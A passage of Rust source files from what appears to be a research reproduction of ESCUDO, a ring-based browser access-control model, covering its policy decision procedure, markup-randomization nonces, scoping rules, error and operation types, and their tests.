        // Re-registration returns the live tenant unchanged.
        let again = registry.register("a", TenantConfig::default());
        assert!(Arc::ptr_eq(&a, &again));

        // Independent engines: deciding through A warms only A's cache.
        let (principal, object) = check_pair();
        a.handle()
            .current()
            .engine()
            .decide(&principal, &object, Operation::Read);
        assert_eq!(a.engine_stats().decisions, 1);
        assert_eq!(b.engine_stats().decisions, 0);
        assert_eq!(b.config().cache_capacity, 64);
        assert_eq!(b.admission().stats().burst, 10);

        // Registry-level reload bumps only the named tenant's generation.
        assert!(registry.reload("a").is_some());
        assert_eq!(a.generation(), 2);
        assert_eq!(b.generation(), 1);
        assert_eq!(a.engine_stats().decisions, 0, "reload is a fresh epoch");
        assert!(registry.reload("ghost").is_none());
        assert_eq!(registry.tenants().len(), 2);
    }

    #[test]
    fn sop_tenants_build_the_baseline_engine() {
        let tenant = Tenant::new(
            "legacy",
            TenantConfig::default().with_mode(PolicyMode::SameOriginOnly),
        );
        let generation = tenant.handle().current();
        assert_eq!(generation.engine().mode(), PolicyMode::SameOriginOnly);
        let (principal, object) = check_pair();
        assert!(generation
            .engine()
            .decide(&principal, &object, Operation::Read)
            .is_allowed());
        // The baseline's stats surface through the same path as Escudo's.
        assert_eq!(tenant.engine_stats().decisions, 1);
        assert_eq!(tenant.engine_stats().cache_misses, 1);
    }
}
