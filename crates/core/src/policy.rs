//! The ESCUDO mandatory access-control decision procedure, and the same-origin-policy
//! baseline used for backwards compatibility and for every "without ESCUDO" experiment.

use std::fmt;

use crate::context::{ObjectContext, PrincipalContext, PrincipalKind};
use crate::operation::Operation;
use crate::origin::Origin;
use crate::ring::Ring;

/// Which protection model the browser enforces.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PolicyMode {
    /// The full ESCUDO model: origin rule ∧ ring rule ∧ ACL rule.
    #[default]
    Escudo,
    /// The legacy same-origin policy: only the origin rule is enforced. This is both
    /// the backwards-compatibility mode for pages that carry no ESCUDO configuration
    /// and the baseline in the paper's evaluation ("without Escudo").
    SameOriginOnly,
}

impl fmt::Display for PolicyMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PolicyMode::Escudo => f.write_str("escudo"),
            PolicyMode::SameOriginOnly => f.write_str("same-origin"),
        }
    }
}

/// Why an access was denied — named after the violated rule so audit logs and the
/// defense-effectiveness experiments can attribute every denial.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DenyReason {
    /// The origin rule failed: `O(P) ≠ O(O)`.
    OriginMismatch {
        /// Principal origin.
        principal: Origin,
        /// Object origin.
        object: Origin,
    },
    /// The ring rule failed: `R(P) > R(O)`.
    RingRule {
        /// Principal ring.
        principal: Ring,
        /// Object ring.
        object: Ring,
    },
    /// The ACL rule failed: `R(P) > ⊓(O, ▷)`.
    AclRule {
        /// Principal ring.
        principal: Ring,
        /// The ACL bound for the attempted operation.
        bound: Ring,
        /// The attempted operation.
        operation: Operation,
    },
    /// Admission control shed the check before any rule was evaluated: the
    /// tenant's token bucket was empty. Fail-closed — an over-rate mediation
    /// is denied, never waved through — and attributed distinctly so audit
    /// logs can separate throttling from policy denials.
    Throttled,
}

impl fmt::Display for DenyReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DenyReason::OriginMismatch { principal, object } => {
                write!(f, "origin rule: principal {principal} ≠ object {object}")
            }
            DenyReason::RingRule { principal, object } => {
                write!(
                    f,
                    "ring rule: principal {principal} is outside object {object}"
                )
            }
            DenyReason::AclRule {
                principal,
                bound,
                operation,
            } => write!(
                f,
                "acl rule: {operation} requires {bound} or better, principal is in {principal}"
            ),
            DenyReason::Throttled => {
                f.write_str("admission control: mediation throttled (token bucket empty)")
            }
        }
    }
}

/// The outcome of a mediated access.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decision {
    /// The access is permitted.
    Allow,
    /// The access is denied for the given reason.
    Deny(DenyReason),
}

impl Decision {
    /// `true` when the access is permitted.
    #[must_use]
    pub fn is_allowed(&self) -> bool {
        matches!(self, Decision::Allow)
    }

    /// `true` when the access is denied.
    #[must_use]
    pub fn is_denied(&self) -> bool {
        !self.is_allowed()
    }

    /// The deny reason, if the decision is a denial.
    #[must_use]
    pub fn deny_reason(&self) -> Option<&DenyReason> {
        match self {
            Decision::Allow => None,
            Decision::Deny(r) => Some(r),
        }
    }
}

impl fmt::Display for Decision {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Decision::Allow => f.write_str("allow"),
            Decision::Deny(reason) => write!(f, "deny ({reason})"),
        }
    }
}

/// Decides whether `principal` may perform `op` on `object` under the given policy
/// mode.
///
/// * In [`PolicyMode::SameOriginOnly`] only the origin rule is evaluated — this is the
///   same-origin policy, where every principal of an origin wields the origin's full
///   authority.
/// * In [`PolicyMode::Escudo`] the access must additionally satisfy the ring rule and
///   the ACL rule. The rules are evaluated in the paper's order and the **first**
///   violated rule is reported.
///
/// The browser-chrome principal ([`PrincipalKind::Browser`]) is exempt: it is the
/// trusted computing base that implements the monitor itself.
///
/// # Example
///
/// ```
/// use escudo_core::{decide, Acl, Operation, Origin, PolicyMode, Ring};
/// use escudo_core::context::{ObjectContext, ObjectKind, PrincipalContext, PrincipalKind};
///
/// let site = Origin::new("http", "forum.example", 80);
/// let evil = Origin::new("http", "evil.example", 80);
///
/// let cookie = ObjectContext::new(ObjectKind::Cookie, site.clone(), Ring::new(1))
///     .with_acl(Acl::uniform(Ring::new(1)));
/// let cross_site_img = PrincipalContext::new(PrincipalKind::RequestIssuer, evil, Ring::new(0));
///
/// // A CSRF request from another origin may not "use" (attach) the session cookie.
/// assert!(decide(PolicyMode::Escudo, &cross_site_img, &cookie, Operation::Use).is_denied());
/// ```
#[must_use]
pub fn decide(
    mode: PolicyMode,
    principal: &PrincipalContext,
    object: &ObjectContext,
    op: Operation,
) -> Decision {
    if principal.kind == PrincipalKind::Browser {
        return Decision::Allow;
    }

    // Rule 1: the origin rule (enforced in both modes).
    if !principal.origin.same_origin_as(&object.origin) {
        return Decision::Deny(DenyReason::OriginMismatch {
            principal: principal.origin.clone(),
            object: object.origin.clone(),
        });
    }

    if mode == PolicyMode::SameOriginOnly {
        return Decision::Allow;
    }

    // Rule 2: the ring rule.
    if !principal.ring.is_at_least_as_privileged_as(object.ring) {
        return Decision::Deny(DenyReason::RingRule {
            principal: principal.ring,
            object: object.ring,
        });
    }

    // Rule 3: the ACL rule.
    let bound = object.acl.bound(op);
    if !principal.ring.is_at_least_as_privileged_as(bound) {
        return Decision::Deny(DenyReason::AclRule {
            principal: principal.ring,
            bound,
            operation: op,
        });
    }

    Decision::Allow
}

/// A single audited access: the inputs and the decision. The browser's reference
/// monitor records these so experiments and examples can explain *why* an attack was
/// neutralized.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditRecord {
    /// The principal that attempted the access.
    pub principal: PrincipalContext,
    /// The object that was the target.
    pub object: ObjectContext,
    /// The attempted operation.
    pub operation: Operation,
    /// The policy mode in force.
    pub mode: PolicyMode,
    /// The decision that was made.
    pub decision: Decision,
}

impl fmt::Display for AuditRecord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "[{}] {} {} on {} -> {}",
            self.mode, self.principal, self.operation, self.object, self.decision
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::acl::Acl;
    use crate::context::ObjectKind;

    fn site() -> Origin {
        Origin::new("http", "app.example", 80)
    }

    fn other_site() -> Origin {
        Origin::new("http", "evil.example", 80)
    }

    fn script(ring: u16) -> PrincipalContext {
        PrincipalContext::new(PrincipalKind::Script, site(), Ring::new(ring))
    }

    fn dom(ring: u16, acl: Acl) -> ObjectContext {
        ObjectContext::new(ObjectKind::DomElement, site(), Ring::new(ring)).with_acl(acl)
    }

    #[test]
    fn all_three_rules_must_pass() {
        let object = dom(2, Acl::uniform(Ring::new(1)));
        // Ring 1 principal: origin ok, ring ok (1 ≤ 2), ACL ok (1 ≤ 1).
        assert!(decide(PolicyMode::Escudo, &script(1), &object, Operation::Write).is_allowed());
        // Ring 2 principal: ring ok (2 ≤ 2) but ACL requires ≤ 1.
        let d = decide(PolicyMode::Escudo, &script(2), &object, Operation::Write);
        assert!(matches!(d, Decision::Deny(DenyReason::AclRule { .. })));
        // Ring 3 principal: ring rule fails first.
        let d = decide(PolicyMode::Escudo, &script(3), &object, Operation::Write);
        assert!(matches!(d, Decision::Deny(DenyReason::RingRule { .. })));
    }

    #[test]
    fn origin_rule_is_checked_first() {
        let object = dom(3, Acl::permissive());
        let foreign = PrincipalContext::new(PrincipalKind::Script, other_site(), Ring::new(0));
        let d = decide(PolicyMode::Escudo, &foreign, &object, Operation::Read);
        assert!(matches!(
            d,
            Decision::Deny(DenyReason::OriginMismatch { .. })
        ));
    }

    #[test]
    fn same_origin_mode_ignores_rings_and_acls() {
        let object = dom(0, Acl::ring_zero_only());
        // Under the SOP baseline even the least privileged principal succeeds.
        assert!(decide(
            PolicyMode::SameOriginOnly,
            &script(u16::MAX),
            &object,
            Operation::Write
        )
        .is_allowed());
        // But cross-origin still fails.
        let foreign = PrincipalContext::new(PrincipalKind::Script, other_site(), Ring::new(0));
        assert!(decide(
            PolicyMode::SameOriginOnly,
            &foreign,
            &object,
            Operation::Read
        )
        .is_denied());
    }

    #[test]
    fn browser_chrome_is_exempt() {
        let object = dom(0, Acl::ring_zero_only());
        let chrome = PrincipalContext::browser(other_site());
        assert!(decide(PolicyMode::Escudo, &chrome, &object, Operation::Write).is_allowed());
    }

    #[test]
    fn acl_distinguishes_operations() {
        // Readable by ring ≤ 2, writable only by ring 0.
        let object = dom(3, Acl::new(Ring::new(2), Ring::new(0), Ring::new(2)));
        assert!(decide(PolicyMode::Escudo, &script(2), &object, Operation::Read).is_allowed());
        assert!(decide(PolicyMode::Escudo, &script(2), &object, Operation::Write).is_denied());
        assert!(decide(PolicyMode::Escudo, &script(0), &object, Operation::Write).is_allowed());
    }

    #[test]
    fn deny_reasons_render_usefully() {
        let object = dom(1, Acl::uniform(Ring::new(1)));
        let d = decide(PolicyMode::Escudo, &script(3), &object, Operation::Use);
        let msg = d.to_string();
        assert!(msg.contains("ring rule"), "got: {msg}");
    }

    #[test]
    fn escudo_with_single_ring_reduces_to_sop() {
        // Backwards compatibility: when everything is in one ring with a permissive
        // ACL, Escudo allows exactly what the SOP allows.
        let object = ObjectContext::new(ObjectKind::DomElement, site(), Ring::new(0))
            .with_acl(Acl::permissive());
        let p_same = PrincipalContext::new(PrincipalKind::Script, site(), Ring::new(0));
        let p_cross = PrincipalContext::new(PrincipalKind::Script, other_site(), Ring::new(0));
        for op in Operation::ALL {
            assert_eq!(
                decide(PolicyMode::Escudo, &p_same, &object, op).is_allowed(),
                decide(PolicyMode::SameOriginOnly, &p_same, &object, op).is_allowed()
            );
            assert_eq!(
                decide(PolicyMode::Escudo, &p_cross, &object, op).is_allowed(),
                decide(PolicyMode::SameOriginOnly, &p_cross, &object, op).is_allowed()
            );
        }
    }

    /// Escudo never allows an access that the same-origin policy would deny:
    /// it only ever *adds* restrictions. Exhaustive over a 6-ring universe.
    #[test]
    fn escudo_is_a_refinement_of_sop() {
        for p_ring in 0u16..6 {
            for o_ring in 0u16..6 {
                for acl_ring in 0u16..6 {
                    for cross in [false, true] {
                        for op in Operation::ALL {
                            let origin_p = if cross { other_site() } else { site() };
                            let principal = PrincipalContext::new(
                                PrincipalKind::Script,
                                origin_p,
                                Ring::new(p_ring),
                            );
                            let object = ObjectContext::new(
                                ObjectKind::DomElement,
                                site(),
                                Ring::new(o_ring),
                            )
                            .with_acl(Acl::new(
                                Ring::new(acl_ring),
                                Ring::new((acl_ring + 2) % 6),
                                Ring::new((acl_ring + 4) % 6),
                            ));
                            let escudo = decide(PolicyMode::Escudo, &principal, &object, op);
                            let sop = decide(PolicyMode::SameOriginOnly, &principal, &object, op);
                            if escudo.is_allowed() {
                                assert!(sop.is_allowed());
                            }
                        }
                    }
                }
            }
        }
    }

    /// Granting more privilege (a smaller ring number) never turns an allow into a deny.
    #[test]
    fn decision_is_monotone_in_principal_privilege() {
        for p_ring in 1u16..8 {
            for o_ring in 0u16..8 {
                for acl_ring in 0u16..8 {
                    for op in Operation::ALL {
                        let object =
                            ObjectContext::new(ObjectKind::DomElement, site(), Ring::new(o_ring))
                                .with_acl(Acl::new(
                                    Ring::new(acl_ring),
                                    Ring::new((acl_ring + 3) % 8),
                                    Ring::new((acl_ring + 5) % 8),
                                ));
                        let weaker =
                            PrincipalContext::new(PrincipalKind::Script, site(), Ring::new(p_ring));
                        let stronger = PrincipalContext::new(
                            PrincipalKind::Script,
                            site(),
                            Ring::new(p_ring - 1),
                        );
                        if decide(PolicyMode::Escudo, &weaker, &object, op).is_allowed() {
                            assert!(decide(PolicyMode::Escudo, &stronger, &object, op).is_allowed());
                        }
                    }
                }
            }
        }
    }
}
