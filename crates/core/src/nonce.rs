//! Markup-randomization nonces.
//!
//! Node-splitting attacks prematurely terminate an AC `div` region with an injected
//! `</div>` and open a new, higher-privileged region. ESCUDO defeats this with random
//! nonces: the server embeds a freshly generated nonce in each AC tag and repeats it on
//! the matching end tag; the browser ignores any `</div>` whose nonce does not match
//! the open tag. Adversaries cannot predict the nonce when they submit their content,
//! so they cannot forge a matching end tag.

use std::fmt;
use std::str::FromStr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{SystemTime, UNIX_EPOCH};

use crate::error::ConfigError;

/// A markup-randomization nonce carried by AC tags.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Nonce(u64);

impl Nonce {
    /// Wraps a raw nonce value (used by tests and by the deterministic page generators
    /// in the benchmark harness; servers should prefer [`NonceGenerator`]).
    #[must_use]
    pub const fn from_raw(value: u64) -> Self {
        Nonce(value)
    }

    /// The raw value.
    #[must_use]
    pub const fn value(self) -> u64 {
        self.0
    }

    /// Compares two nonces. (With 64-bit random nonces, guessing is the attacker's only
    /// option; matching is exact.)
    #[must_use]
    pub fn matches(self, other: Nonce) -> bool {
        self == other
    }
}

impl fmt::Display for Nonce {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl FromStr for Nonce {
    type Err = ConfigError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        s.trim()
            .parse::<u64>()
            .map(Nonce)
            .map_err(|_| ConfigError::InvalidNonce(s.to_string()))
    }
}

/// A generator of markup-randomization nonces, seeded from the thread RNG (or from a
/// fixed seed for reproducible page generation in tests and benchmarks).
#[derive(Debug, Clone)]
pub struct NonceGenerator {
    state: u64,
}

impl NonceGenerator {
    /// Creates a generator seeded from the environment — what a real server would use
    /// when constructing a page. The seed mixes the wall clock, a process-wide
    /// monotonically increasing counter and address-space entropy, then whitens the
    /// result through splitmix64. Production servers would use a CSPRNG; for the
    /// reproduction unpredictability across generators is what matters.
    #[must_use]
    pub fn new() -> Self {
        static COUNTER: AtomicU64 = AtomicU64::new(0);
        let clock = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| d.as_nanos() as u64)
            .unwrap_or(0x5EED_5EED);
        let count = COUNTER.fetch_add(1, Ordering::Relaxed);
        let aslr = &COUNTER as *const _ as u64;
        // One splitmix64 round whitens the correlated sources into a full-width seed.
        let mut z = clock ^ count.rotate_left(32) ^ aslr;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        NonceGenerator::from_seed((z ^ (z >> 31)) | 1)
    }

    /// Creates a deterministic generator for reproducible page construction.
    #[must_use]
    pub fn from_seed(seed: u64) -> Self {
        NonceGenerator { state: seed.max(1) }
    }

    /// Produces the next nonce (splitmix64 over the internal state — uniform, fast and
    /// unpredictable enough for test/bench purposes; production servers would use a
    /// CSPRNG, which `NonceGenerator::new` approximates by seeding from the OS).
    pub fn next_nonce(&mut self) -> Nonce {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        Nonce(z ^ (z >> 31))
    }
}

impl Default for NonceGenerator {
    fn default() -> Self {
        NonceGenerator::new()
    }
}

impl Iterator for NonceGenerator {
    type Item = Nonce;

    fn next(&mut self) -> Option<Nonce> {
        Some(self.next_nonce())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn matching_is_exact() {
        assert!(Nonce::from_raw(42).matches(Nonce::from_raw(42)));
        assert!(!Nonce::from_raw(42).matches(Nonce::from_raw(43)));
    }

    #[test]
    fn parse_roundtrip_and_rejection() {
        let n: Nonce = "3847".parse().unwrap();
        assert_eq!(n, Nonce::from_raw(3847));
        assert_eq!(n.to_string(), "3847");
        assert!("".parse::<Nonce>().is_err());
        assert!("abc".parse::<Nonce>().is_err());
        assert!("-5".parse::<Nonce>().is_err());
    }

    #[test]
    fn seeded_generator_is_deterministic() {
        let a: Vec<Nonce> = NonceGenerator::from_seed(7).take(5).collect();
        let b: Vec<Nonce> = NonceGenerator::from_seed(7).take(5).collect();
        assert_eq!(a, b);
        let c: Vec<Nonce> = NonceGenerator::from_seed(8).take(5).collect();
        assert_ne!(a, c);
    }

    #[test]
    fn generated_nonces_are_distinct_over_many_draws() {
        let mut seen = HashSet::new();
        let mut gen = NonceGenerator::from_seed(12345);
        for _ in 0..10_000 {
            assert!(seen.insert(gen.next_nonce()), "nonce collision");
        }
    }

    #[test]
    fn unseeded_generators_differ_from_each_other() {
        // Not a strict guarantee, but with 64-bit seeds a collision here would be
        // astronomically unlikely; a failure indicates the OS seeding is broken.
        let a = NonceGenerator::new().next_nonce();
        let b = NonceGenerator::new().next_nonce();
        assert_ne!(a, b);
    }
}
