//! Error types for the ESCUDO policy core.

use std::error::Error;
use std::fmt;

/// Errors raised while parsing ESCUDO configuration (AC-tag attributes, HTTP headers,
/// origins).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ConfigError {
    /// A ring label was not a non-negative integer in range.
    InvalidRing(String),
    /// An ACL attribute (`r`, `w`, `x`) could not be parsed.
    InvalidAcl(String),
    /// A nonce attribute was malformed.
    InvalidNonce(String),
    /// An ESCUDO HTTP header was malformed.
    InvalidHeader {
        /// The header name.
        header: String,
        /// Why parsing failed.
        reason: String,
    },
    /// A URL or origin string could not be parsed.
    InvalidOrigin(String),
}

impl fmt::Display for ConfigError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ConfigError::InvalidRing(s) => write!(f, "invalid ring label `{s}`"),
            ConfigError::InvalidAcl(s) => write!(f, "invalid ACL attribute `{s}`"),
            ConfigError::InvalidNonce(s) => write!(f, "invalid nonce `{s}`"),
            ConfigError::InvalidHeader { header, reason } => {
                write!(f, "invalid `{header}` header: {reason}")
            }
            ConfigError::InvalidOrigin(s) => write!(f, "invalid origin `{s}`"),
        }
    }
}

impl Error for ConfigError {}

/// Errors raised by policy evaluation itself (not by a denial — denials are ordinary
/// [`Decision`](crate::policy::Decision) values).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PolicyError {
    /// The requested object has no security context registered.
    UnknownObject(String),
    /// The requesting principal has no security context registered.
    UnknownPrincipal(String),
}

impl fmt::Display for PolicyError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PolicyError::UnknownObject(what) => write!(f, "no security context for object {what}"),
            PolicyError::UnknownPrincipal(what) => {
                write!(f, "no security context for principal {what}")
            }
        }
    }
}

impl Error for PolicyError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_messages_are_lowercase_and_name_the_input() {
        let e = ConfigError::InvalidRing("abc".into());
        assert_eq!(e.to_string(), "invalid ring label `abc`");
        let e = ConfigError::InvalidHeader {
            header: "X-Escudo-Cookie-Policy".into(),
            reason: "missing ring".into(),
        };
        assert!(e.to_string().contains("X-Escudo-Cookie-Policy"));
        let e = PolicyError::UnknownObject("cookie sid".into());
        assert!(e.to_string().contains("cookie sid"));
    }

    #[test]
    fn errors_are_std_errors_and_sendable() {
        fn assert_good<E: Error + Send + Sync + 'static>() {}
        assert_good::<ConfigError>();
        assert_good::<PolicyError>();
    }
}
