//! The operations mediated by ESCUDO.

use std::fmt;

/// An operation a principal attempts on an object (`▷` in the paper).
///
/// `Read` and `Write` are the obvious DOM/cookie accesses. `Use` covers *implicit*
/// accesses performed by the browser on behalf of a principal — attaching cookies to an
/// HTTP request the principal initiated, or delivering a UI event to a DOM element —
/// which the principal never names explicitly.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Operation {
    /// Observe the object (e.g. read `document.cookie`, read `innerHTML`).
    Read,
    /// Modify the object (e.g. `setAttribute`, set `document.cookie`, `appendChild`).
    Write,
    /// Implicit use of the object by the browser on behalf of the principal
    /// (cookie attachment to an outgoing request, UI-event delivery, API invocation).
    Use,
}

impl Operation {
    /// All operations, in a stable order (useful for exhaustive policy tables).
    pub const ALL: [Operation; 3] = [Operation::Read, Operation::Write, Operation::Use];

    /// The attribute letter used in AC tags: `r`, `w`, or `x`.
    #[must_use]
    pub const fn attribute_letter(self) -> &'static str {
        match self {
            Operation::Read => "r",
            Operation::Write => "w",
            Operation::Use => "x",
        }
    }
}

impl fmt::Display for Operation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Operation::Read => "read",
            Operation::Write => "write",
            Operation::Use => "use",
        };
        f.write_str(name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attribute_letters_match_the_paper() {
        assert_eq!(Operation::Read.attribute_letter(), "r");
        assert_eq!(Operation::Write.attribute_letter(), "w");
        assert_eq!(Operation::Use.attribute_letter(), "x");
    }

    #[test]
    fn all_lists_every_operation_once() {
        assert_eq!(Operation::ALL.len(), 3);
        assert!(Operation::ALL.contains(&Operation::Read));
        assert!(Operation::ALL.contains(&Operation::Write));
        assert!(Operation::ALL.contains(&Operation::Use));
    }

    #[test]
    fn display_is_lowercase() {
        assert_eq!(Operation::Use.to_string(), "use");
        assert_eq!(Operation::Read.to_string(), "read");
        assert_eq!(Operation::Write.to_string(), "write");
    }
}
