//! The scoping rule.
//!
//! "When a div tag is labeled with `ring="n"`, then the privileges of the principals
//! within the scope of this div tag, including all sub scopes, are bounded by ring
//! level n. Escudo's implementation strictly enforces this even if the ring
//! specification of the sub scope violates this rule."
//!
//! The same clamp applies to DOM elements added later through the DOM API: a principal
//! can never create content more privileged than itself.

use crate::acl::Acl;
use crate::ring::Ring;

/// Computes the *effective* ring of a nested scope given the effective ring of its
/// parent scope and the ring the nested scope declared (if any).
///
/// * With no declaration the child simply inherits the parent's ring.
/// * With a declaration the child gets the **less privileged** of the two, so a nested
///   AC tag can only drop privilege, never raise it.
///
/// ```
/// use escudo_core::scoping::effective_ring;
/// use escudo_core::Ring;
///
/// // An inner scope may further restrict itself…
/// assert_eq!(effective_ring(Ring::new(2), Some(Ring::new(3))), Ring::new(3));
/// // …but a declaration of a *more* privileged ring is clamped to the parent.
/// assert_eq!(effective_ring(Ring::new(2), Some(Ring::new(0))), Ring::new(2));
/// // No declaration: inherit.
/// assert_eq!(effective_ring(Ring::new(2), None), Ring::new(2));
/// ```
#[must_use]
pub fn effective_ring(parent_effective: Ring, declared: Option<Ring>) -> Ring {
    match declared {
        Some(declared) => declared.least_privileged(parent_effective),
        None => parent_effective,
    }
}

/// Clamps content created *dynamically* by a principal (via the DOM API) so the new
/// content is never more privileged than its creator: the effective ring is the less
/// privileged of the creator's ring, the insertion parent's ring, and any declared
/// ring.
#[must_use]
pub fn effective_ring_for_dynamic_content(
    creator_ring: Ring,
    parent_effective: Ring,
    declared: Option<Ring>,
) -> Ring {
    let base = creator_ring.least_privileged(parent_effective);
    effective_ring(base, declared)
}

/// Clamps a declared ACL to an effective ring: no bound may admit rings beyond the
/// effective ring of the scope it labels.
#[must_use]
pub fn effective_acl(effective_ring: Ring, declared: Option<Acl>) -> Acl {
    match declared {
        Some(acl) => acl.clamped_to_ring(effective_ring),
        // Fail-safe default from the paper: r=0, w=0, x=0.
        None => Acl::ring_zero_only(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::operation::Operation;

    #[test]
    fn inner_scope_may_only_drop_privilege() {
        assert_eq!(
            effective_ring(Ring::new(2), Some(Ring::new(3))),
            Ring::new(3)
        );
        assert_eq!(
            effective_ring(Ring::new(2), Some(Ring::new(2))),
            Ring::new(2)
        );
        assert_eq!(
            effective_ring(Ring::new(2), Some(Ring::new(1))),
            Ring::new(2)
        );
        assert_eq!(
            effective_ring(Ring::new(2), Some(Ring::new(0))),
            Ring::new(2)
        );
    }

    #[test]
    fn missing_declaration_inherits() {
        assert_eq!(effective_ring(Ring::new(1), None), Ring::new(1));
        assert_eq!(effective_ring(Ring::OUTERMOST, None), Ring::OUTERMOST);
    }

    #[test]
    fn dynamic_content_is_bounded_by_its_creator() {
        // A ring-3 script appending into a ring-1 region: the new node is ring 3.
        assert_eq!(
            effective_ring_for_dynamic_content(Ring::new(3), Ring::new(1), None),
            Ring::new(3)
        );
        // Even if the script declares ring 0 on the new AC tag.
        assert_eq!(
            effective_ring_for_dynamic_content(Ring::new(3), Ring::new(1), Some(Ring::new(0))),
            Ring::new(3)
        );
        // A ring-0 script creating content in a ring-2 region: bounded by the region.
        assert_eq!(
            effective_ring_for_dynamic_content(Ring::new(0), Ring::new(2), None),
            Ring::new(2)
        );
    }

    #[test]
    fn missing_acl_defaults_to_ring_zero_only() {
        let acl = effective_acl(Ring::new(3), None);
        assert_eq!(acl, Acl::ring_zero_only());
    }

    #[test]
    fn declared_acl_is_clamped() {
        let declared = Acl::new(Ring::new(9), Ring::new(0), Ring::new(9));
        let acl = effective_acl(Ring::new(3), Some(declared));
        assert_eq!(acl.bound(Operation::Read), Ring::new(3));
        assert_eq!(acl.bound(Operation::Write), Ring::new(0));
        assert_eq!(acl.bound(Operation::Use), Ring::new(3));
    }

    /// Enumerates `None` plus every declared ring in `0..limit`.
    fn declared_options(limit: u16) -> impl Iterator<Item = Option<Ring>> {
        std::iter::once(None).chain((0..limit).map(|r| Some(Ring::new(r))))
    }

    /// The effective ring of a nested scope is never more privileged than the parent's.
    #[test]
    fn scoping_never_elevates() {
        for parent in 0u16..100 {
            for declared in declared_options(100) {
                let eff = effective_ring(Ring::new(parent), declared);
                assert!(Ring::new(parent).is_at_least_as_privileged_as(eff));
            }
        }
    }

    /// Dynamically created content is never more privileged than its creator.
    #[test]
    fn dynamic_content_never_exceeds_creator() {
        for creator in 0u16..40 {
            for parent in 0u16..40 {
                for declared in declared_options(40) {
                    let eff = effective_ring_for_dynamic_content(
                        Ring::new(creator),
                        Ring::new(parent),
                        declared,
                    );
                    assert!(Ring::new(creator).is_at_least_as_privileged_as(eff));
                    assert!(Ring::new(parent).is_at_least_as_privileged_as(eff));
                }
            }
        }
    }

    /// Chained clamping is associative with respect to nesting order: applying the
    /// clamp level by level equals clamping against the least privileged ancestor.
    #[test]
    fn nested_clamp_equals_single_clamp() {
        // A deterministic walk over ring chains of length 1..=5.
        let chains: Vec<Vec<u16>> = (0u64..200)
            .map(|seed| {
                let len = 1 + (seed % 5) as usize;
                (0..len)
                    .map(|i| ((seed * 31 + i as u64 * 17) % 50) as u16)
                    .collect()
            })
            .collect();
        for chain in chains {
            let mut eff = Ring::INNERMOST;
            let mut least = Ring::INNERMOST;
            for declared in &chain {
                eff = effective_ring(eff, Some(Ring::new(*declared)));
                least = least.least_privileged(Ring::new(*declared));
            }
            assert_eq!(eff, least);
        }
    }
}
