//! The configuration formats web applications use to communicate ring assignments to
//! the browser.
//!
//! * DOM regions are labelled with **access-control (AC) tags**: `div` elements carrying
//!   `ring`, `r`, `w`, `x` and `nonce` attributes ([`AcAttributes`]).
//! * Cookies and native-code APIs are labelled with **optional HTTP headers**
//!   ([`CookiePolicy`] / [`ApiPolicy`], header names [`COOKIE_POLICY_HEADER`] and
//!   [`API_POLICY_HEADER`]).
//!
//! Both formats are ignored by non-ESCUDO browsers, which is what makes ESCUDO
//! configurations backwards compatible.

use std::fmt;
use std::str::FromStr;

use crate::acl::Acl;
use crate::error::ConfigError;
use crate::nonce::Nonce;
use crate::ring::Ring;
use crate::scoping;

/// The optional HTTP header carrying cookie ring assignments,
/// e.g. `X-Escudo-Cookie-Policy: name=phpbb2mysql_sid; ring=1; r=1; w=1; x=1`.
pub const COOKIE_POLICY_HEADER: &str = "X-Escudo-Cookie-Policy";

/// The optional HTTP header carrying native-code-API ring assignments,
/// e.g. `X-Escudo-Api-Policy: api=xmlhttprequest; ring=1`.
pub const API_POLICY_HEADER: &str = "X-Escudo-Api-Policy";

/// The attribute names recognized on AC tags.
pub const AC_ATTRIBUTES: [&str; 5] = ["ring", "r", "w", "x", "nonce"];

/// The ESCUDO attributes found on a single AC (`div`) tag, exactly as declared by the
/// application — before the scoping rule and fail-safe defaults are applied.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct AcAttributes {
    /// The declared ring (`ring=`), if any.
    pub ring: Option<Ring>,
    /// The declared read bound (`r=`), if any.
    pub read: Option<Ring>,
    /// The declared write bound (`w=`), if any.
    pub write: Option<Ring>,
    /// The declared use bound (`x=`), if any.
    pub use_: Option<Ring>,
    /// The markup-randomization nonce (`nonce=`), if any.
    pub nonce: Option<Nonce>,
}

impl AcAttributes {
    /// Parses the ESCUDO attributes out of an element's attribute list. Unrelated
